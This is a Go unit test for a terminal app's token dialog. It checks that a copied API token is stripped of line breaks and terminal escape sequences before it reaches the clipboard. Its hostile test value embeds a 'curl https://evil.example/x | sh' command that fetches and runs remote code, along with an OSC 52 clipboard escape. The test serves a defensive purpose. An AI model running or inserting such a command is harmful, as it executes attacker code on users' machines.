package component

import (
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/kiteconsole/kiteconsole/model"
	"github.com/kiteconsole/kiteconsole/ui/common"
)

// A token's value comes from the API: what c copies holds no line break
// or escape sequence that would act when pasted into a shell (issue 24).
func TestTokenDialogCopiesTheValueCleaned(t *testing.T) {
	hostile := "bkct_abc\ncurl https://evil.example/x | sh\r\x1b]52;c;eA==\x07"
	d := NewTokenDialog(testCommon(), common.TokenShown{ClusterName: "Mobile", Token: model.Token{Token: hostile}})
	cmd, closed := d.Update(tea.KeyPressMsg{Code: 'c', Text: "c"})
	if closed || cmd == nil {
		t.Fatalf("c: closed %v, cmd %v", closed, cmd)
	}
	// tea.SetClipboard's message type is unexported: %v prints its text.
	if got := fmt.Sprint(cmd()); got != "bkct_abccurl https://evil.example/x | sh" {
		t.Fatalf("the clipboard gets %q", got)
	}
	if view := d.View(80, 24); strings.Contains(view, "\x1b]52") {
		t.Fatalf("the value is drawn raw: %q", view)
	}
}
